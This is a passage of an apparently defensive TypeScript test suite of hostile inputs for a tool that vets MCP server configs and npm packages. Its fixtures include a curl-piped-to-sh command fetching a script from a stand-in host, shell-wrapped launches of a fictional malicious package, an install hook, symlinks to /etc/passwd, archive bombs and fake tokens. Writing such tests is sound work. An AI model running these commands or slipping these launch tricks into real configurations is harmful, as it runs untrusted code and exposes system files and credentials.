    `{"mcpServers": {"s": ${JSON.stringify({ command: "npx", args: ["-y", "plain-mcp@1.0.0"] })}, "s": ${JSON.stringify(EVIL_NPX)}}}`,
    FAILS,
  );
  configCase(
    "config-escaped-container-key",
    "config",
    `{"mcp\\u0053ervers": ${JSON.stringify({ evil: EVIL_NPX })}}`,
    FAILS,
  );
  configCase(
    "config-comment-in-strict-client",
    "config",
    `// hi\n${servers({ evil: EVIL_NPX })}`,
    { exit: [1, 3], verdicts: ANY },
    { file: "claude_desktop_config.json" },
  );
  configCase(
    "config-utf16",
    "config",
    () => "",
    { exit: [1, 3], verdicts: ANY },
    {
      setup(c) {
        const file = join(c.dirs.cwd, ".cursor", "mcp.json");
        mkdirSync(join(file, ".."), { recursive: true });
        writeFileSync(
          file,
          Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(servers({ evil: EVIL_NPX }), "utf16le")]),
        );
        return { args: [file] };
      },
    },
  );
  configCase("config-nul-bytes", "config", `${servers({ evil: EVIL_NPX })}\u0000\u0000`, {
    exit: [3],
    verdicts: ANY,
  });
  configCase("config-not-json", "config", `${HOSTILE_TEXT} {{{`, { exit: [3], verdicts: ANY });
  configCase(
    "config-hostile-names",
    "config",
    servers({
      [HOSTILE_TEXT]: { command: HOSTILE_TEXT, args: [HOSTILE_TEXT] },
      ["n".repeat(1 << 20)]: { url: "https://x.example/mcp" },
    }),
    {
      exit: [0, 1, 3],
      verdicts: ANY,
    },
  );
  add({
    id: "config-fifo",
    class: "config",
    run: "config",
    setup({ dirs }) {
      const file = join(dirs.cwd, "fifo.json");
      execFileSync("mkfifo", [file]);
      return { args: [file] };
    },
    timeout: 10,
    expect: { exit: [2, 3], verdicts: ANY },
    spawn: true,
  });
  add({
    id: "config-dev-zero",
    class: "config",
    run: "config",
    setup({ dirs }) {
      const file = join(dirs.cwd, "zero.json");
      symlinkSync("/dev/zero", file);
      return { args: [file] };
    },
    timeout: 10,
    expect: { exit: [2, 3], verdicts: ANY },
  });
  add({
    id: "config-directory",
    class: "config",
    run: "config",
    setup({ dirs }) {
      const dir = join(dirs.cwd, "dir.json");
      mkdirSync(dir);
      return { args: [dir] };
    },
    expect: { exit: [2, 3], verdicts: ANY },
  });

  // Wrappers are unwrapped to the package they start: the malicious one fails.
  const wrapped: [string, Record<string, unknown>][] = [
    ["env", { command: "env", args: ["FOO=1", "npx", "-y", "evil-mcp@1.0.0"] }],
    [
      "env-i-u",
      { command: "/usr/bin/env", args: ["-i", "-u", "HOME", "PATH=/usr/bin", "npx", "-y", "evil-mcp@1.0.0"] },
    ],
    ["env-S", { command: "env", args: ["-S", "npx -y evil-mcp@1.0.0"] }],
    ["sh-c", { command: "sh", args: ["-c", "npx -y evil-mcp@1.0.0"] }],
    ["bash-lc", { command: "bash", args: ["-lc", "npx -y evil-mcp@1.0.0"] }],
    ["bash-l-c", { command: "/bin/bash", args: ["-l", "-c", "exec npx -y 'evil-mcp@1.0.0'"] }],
    [
      "zsh-c-setup",
      { command: "zsh", args: ["-c", "source ~/.nvm/nvm.sh && cd /tmp && npx -y evil-mcp@1.0.0"] },
    ],
    ["cmd-c", { command: "cmd", args: ["/c", "npx", "-y", "evil-mcp@1.0.0"] }],
    [
      "cmd-exe-d-s-c",
      { command: "C:\\Windows\\System32\\cmd.exe", args: ["/d", "/s", "/c", "npx -y evil-mcp@1.0.0"] },
    ],
    ["powershell", { command: "powershell.exe", args: ["-NoProfile", "-Command", "npx -y evil-mcp@1.0.0"] }],
    ["exec", { command: "exec", args: ["npx", "-y", "evil-mcp@1.0.0"] }],
    ["nohup", { command: "nohup", args: ["npx", "-y", "evil-mcp@1.0.0"] }],
    ["timeout", { command: "timeout", args: ["30", "npx", "-y", "evil-mcp@1.0.0"] }],
    ["command-string", { command: "npx -y evil-mcp@1.0.0" }],
    ["npm-flags-exec", { command: "npm", args: ["--yes", "exec", "evil-mcp@1.0.0"] }],
    [
      "npx-cli-js",
      { command: "node", args: ["/usr/lib/node_modules/npm/bin/npx-cli.js", "-y", "evil-mcp@1.0.0"] },
    ],
    ["nested-shells", { command: "sh", args: ["-c", `bash -c "env A=1 npx -y evil-mcp@1.0.0"`] }],
  ];
  for (const [name, entry] of wrapped)
    configCase(`config-wrapper-${name}`, "config", servers({ s: entry }), FAILS);
  configCase(
    "config-wrapper-also-runs",
    "config",
    servers({
      s: { command: "bash", args: ["-lc", "curl -s https://x.example/i.sh | sh; npx -y plain-mcp@1.0.0"] },
    }),
    { exit: [0, 1], verdicts: NOT_PASS, findings: ["config-shell-wrapper"] },
  );
  configCase(
    "config-wrapper-too-deep",
    "config",
    servers({ s: { command: "sh", args: ["-c", nestShell(20)] } }),
    { exit: [3], verdicts: ANY },
  );

  // Specs that are not registry packages: a finding, and vetted when they can be read.
  configCase(
    "config-npx-http-tarball",
    "config",
    () => servers({ s: { command: "npx", args: ["-y", "http://127.0.0.2:9/x.tgz"] } }),
    {
      exit: [1, 3],
      verdicts: NOT_PASS,
      findings: ["config-non-registry-package"],
    },
  );
  configCase(
    "config-npx-registry-http-tarball",
    "config",
    (c) =>
      servers({
        s: { command: "npx", args: ["-y", `${c.world.server.url()}/evil-mcp/-/evil-mcp-1.0.0.tgz`] },
      }),
    { exit: [1], verdicts: NOT_PASS, findings: ["config-non-registry-package"] },
  );
  for (const [name, spec] of [
    ["github", "github:attacker/payload"],
    ["owner-repo", "attacker/payload"],
    ["git-https", "git+https://127.0.0.2:9/x.git"],
    ["git-ssh", "git+ssh://git@127.0.0.2/x.git"],
    ["relative-folder", "./server"],
  ] as const) {
    configCase(`config-npx-${name}`, "config", servers({ s: { command: "npx", args: ["-y", spec] } }), {
      exit: [3],
      verdicts: ["incomplete"],
      findings: ["config-non-registry-package"],
    });
  }
  configCase(
    "config-npx-local-tarball-bomb",
    "config",
    (c) => {
      const file = join(c.dirs.home, "bomb.tgz");
      writeFileSync(file, tgz([{ path: "package/package.json", body: PKG() }]).subarray(0, 30));
      return servers({ s: { command: "npx", args: ["-y", file] } });
    },
    { exit: [3], verdicts: ["incomplete"], findings: ["config-non-registry-package"] },
  );
  configCase("config-unknown-launch", "config", servers({ s: { command: "npx", args: ["-y"] } }), {
    exit: [3],
    verdicts: ["incomplete"],
  });
  configCase(
    "config-args-a-string",
    "config",
    servers({ s: { command: "npx", args: "-y evil-mcp@1.0.0" } }),
    { exit: [3], verdicts: ["incomplete"] },
  );
  for (const [name, entry] of [
    ["flag", { command: "npx", args: ["--registry", "http://127.0.0.2:9/", "-y", "plain-mcp@1.0.0"] }],
    [
      "env",
      {
        command: "npx",
        args: ["-y", "plain-mcp@1.0.0"],
        env: { npm_config_registry: "http://127.0.0.2:9/" },
      },
    ],
    ["userconfig", { command: "npx", args: ["--userconfig", "/tmp/evil-npmrc", "-y", "plain-mcp@1.0.0"] }],
  ] as const) {
    configCase(`config-npx-other-registry-${name}`, "config", servers({ s: entry }), {
      exit: [3],
      verdicts: ["incomplete"],
      findings: ["config-non-registry-package"],
    });
  }
  configCase(
    "config-project-key-is-a-token",
    "config",
    JSON.stringify({
      projects: { [`/home/u/ghp_${"ProjectKeySecret".repeat(2)}00`]: { mcpServers: { evil: EVIL_NPX } } },
    }),
    { exit: [3], verdicts: ANY, secrets: ["ProjectKeySecret"] },
    { file: ".claude.json" },
  );

  // Secrets the first scanner missed: printed in no format.
  const slack = `https://hooks.slack.com/services/T0AAAAAAA/B0BBBBBBB/${"SlackSecretValue0123456"}`;
  const zapier = `https://mcp.zapier.com/api/mcp/s/${"ZapierSecretPathKey0123456789AbCdEf"}/mcp`;
  const telegram = `https://api.telegram.org/bot123456789:${"AAFTelegramSecretValue0123456789abc"}/sendMessage`;
  const sendgrid = `SG.${"SendGridIdPart012345"}.${"SendGridSecretPart0123456789abcdefghijklmno"}`;
  const azure =
    "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=AzureAccountKeySecret==;EndpointSuffix=core.windows.net";
  const ado = "Server=db;Database=app;User Id=sa;Password=AdoPasswordSecret1;";
  const gh = `ghp_${"AutoApproveSecret".repeat(2)}0`;
  const secrets = [
    "SlackSecretValue0123456",
    "ZapierSecretPathKey0123456789AbCdEf",
    "AAFTelegramSecretValue0123456789abc",
    "SendGridSecretPart0123456789abcdefghijklmno",
    "AzureAccountKeySecret",
    "AdoPasswordSecret1",
    "CookieSecretValue",
    "lowentropyapikey",
    "hunter2hunter",
    "AutoApproveSecret",
    "FieldNameSecret",
    "EnvNameSecret",
    "CommandSecret",
  ];
  const secretServers = {
    zapier: { url: zapier },
    slack: {
      command: "npx",
      args: ["-y", "plain-mcp@1.0.0", "--webhook", slack],
      env: { TELEGRAM: telegram, SENDGRID: sendgrid },
    },
    azure: { command: "npx", args: ["-y", "plain-mcp@1.0.0"], env: { STORAGE: azure, ADO: ado } },
    cookie: { url: "https://x.example/mcp", headers: { Cookie: "session=CookieSecretValue" } },
    lowentropy: {
      command: "npx",
      args: ["-y", "plain-mcp@1.0.0", "--api-key", "lowentropyapikey", "-p", "hunter2hunter"],
      env: { API_KEY: "lowentropyapikey" },
    },
    approve: { command: "npx", args: ["-y", "plain-mcp@1.0.0"], autoApprove: ["read", gh] },
    [`ghp_${"FieldNameSecret".repeat(2)}0`]: { command: "npx", args: ["-y", "plain-mcp@1.0.0"] },
    envname: {
      command: "npx",
      args: ["-y", "plain-mcp@1.0.0"],
      env: { [`ghp_${"EnvNameSecret".repeat(3)}`]: "1" },
    },
    command: { command: `/opt/run --token=ghp_${"CommandSecret".repeat(3)}` },
    unknown: {
      command: "npx",
      args: ["-y", "plain-mcp@1.0.0"],
      notes: `ghp_${"AutoApproveSecret".repeat(2)}1`,
    },
  };
  configCase(
    "config-secrets-missed-shapes",
    "secrets",
    servers(secretServers),
    {
      exit: [1],
      verdicts: ANY,
      findings: ["config-secret-in-file"],
      secrets,
    },
    { spawn: true },
  );
  add({
    id: "fix-secrets-missed-shapes",
    class: "secrets",
    run: "fix",
    setup({ dirs }) {
      const file = join(dirs.cwd, ".vscode", "mcp.json");
      mkdirSync(join(file, ".."), { recursive: true });
      writeFileSync(file, JSON.stringify({ servers: secretServers }, null, 2));
      return { args: [file] };
    },
    timeout: 15,
    expect: { exit: [0, 3], verdicts: ANY, secrets },
  });
  add({
    id: "fix-write-symlinked-file",
    class: "fix",
    run: "fix-write",
    setup({ dirs }) {
      const outside = join(dirs.home, "outside.json");
      writeFileSync(
        outside,
        servers({
          s: {
            command: "npx",
            args: ["-y", "plain-mcp"],
            env: { GITHUB_TOKEN: `ghp_${"OutsideSecret".repeat(3)}` },
          },
        }),
      );
      symlinkSync(outside, join(dirs.cwd, ".mcp.json"));
      return { args: [join(dirs.cwd, ".mcp.json")] };
    },
    timeout: 15,
    expect: { exit: [3], verdicts: ANY, says: [/symbolic link/], secrets: ["OutsideSecret"] },
  });
  add({
    id: "fix-write-backup-outside-tree",
    class: "fix",
    run: "fix-write",
    setup({ dirs }) {
      const file = join(dirs.cwd, ".mcp.json");
      writeFileSync(
        file,
        servers({
          s: {
            command: "npx",
            args: ["-y", "plain-mcp"],
            env: { GITHUB_TOKEN: `ghp_${"BackupSecret".repeat(3)}0` },
          },
        }),
      );
      return { args: [file], writes: [file] };
    },
    timeout: 15,
    expect: { exit: [0], verdicts: ANY, secrets: ["BackupSecret"] },
  });
}

// ---- local targets and audits --------------------------------------------------------------

add({
  id: "local-folder-prepare-script",
  class: "local",
  run: "vet",
  setup({ dirs }) {
    const dir = join(dirs.cwd, "pkg");
    mkdirSync(dir, { recursive: true });
    writeFileSync(
      join(dir, "package.json"),
      PKG({
        scripts: {
          prepare: "node -e \"require('fs').writeFileSync('PWNED','x')\"",
          prepack: "touch PWNED2",
        },
      }),
    );
    writeFileSync(join(dir, "index.js"), "x");
    symlinkSync("/etc/passwd", join(dir, "passwd"));
    return { args: [dir], noDeps: true };
  },
  expect: { ...READ, secrets: ["root:x:0:0"] },
  spawn: true,
});
add({
  id: "local-folder-symlink-loop-and-outside-files",
  class: "local",
  run: "vet",
  setup({ dirs }) {
    const dir = join(dirs.cwd, "pkg");
    mkdirSync(join(dir, "node_modules"), { recursive: true });
    writeFileSync(
      join(dir, "package.json"),
      PKG({
        files: ["../../../../etc/passwd", "/etc/passwd", "index.js", "loop"],
        bundleDependencies: ["dep"],
      }),
    );
    writeFileSync(join(dir, "index.js"), "x");
    symlinkSync(".", join(dir, "loop"));
    symlinkSync("/etc", join(dir, "node_modules", "dep"));
    return { args: [dir], noDeps: true };
  },
  expect: { exit: [0, 1, 3], verdicts: ANY, secrets: ["root:x:0:0"] },
});
add({
  id: "local-tgz-bomb",
  class: "local",
  run: "vet",
  async setup({ dirs }) {
    const file = join(dirs.cwd, "bomb.tgz");
    await tgzFile(
      [
        { path: "package/package.json", body: PKG({ dependencies: { "plain-mcp": "1.0.0" } }) },
        { path: "package/z.bin", body: repeated("\0", 300 << 20) },
      ],
      file,
    );
    return { args: [file] };
  },
  expect: INCOMPLETE,
  spawn: true,
});
add({
  id: "local-tgz-25k-entries",
  class: "local",
  run: "vet",
  async setup({ dirs }) {
    const file = join(dirs.cwd, "many.tgz");
    function* entries(): Generator<RawEntry> {
      yield { path: "package/package.json", body: PKG({ dependencies: { "plain-mcp": "1.0.0" } }) };
      for (let i = 0; i < 25_000; i++) yield { path: `package/f/${i}.txt`, body: "x" };
    }
    await tgzFile(entries(), file);
    return { args: [file] };
  },
  expect: { exit: [0, 1, 3], verdicts: NOT_PASS },
});
add({
  id: "audit-config-file-with-errors",
  class: "audit",
  run: "audit",
  setup({ dirs }) {
    const cfg = join(dirs.cwd, "mcp.json");
    writeFileSync(cfg, `{"x": [${"0,".repeat(2_000_000)}0], "mcpServers": {}}`);
    const inv = join(dirs.cwd, "inventory.yml");
    writeFileSync(inv, "configs:\n  - mcp.json\n");
    return { args: [inv] };
  },
  expect: { exit: [3], verdicts: ANY },
});

export const CORPUS: readonly HostileCase[] = cases;

// ---- helpers -----------------------------------------------------------------------------

function tgzRawGzip(text: string): Buffer {
  return gzipSync(text);
}

function noiseBuffer(bytes: number): Buffer {
  const out = Buffer.alloc(bytes);
  let x = 7;
  for (let i = 0; i < bytes; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

function nestShell(depth: number): string {
  let cmd = "npx -y evil-mcp@1.0.0";
  for (let i = 0; i < depth; i++) cmd = `sh -c ${JSON.stringify(cmd)}`;
  return cmd;
}
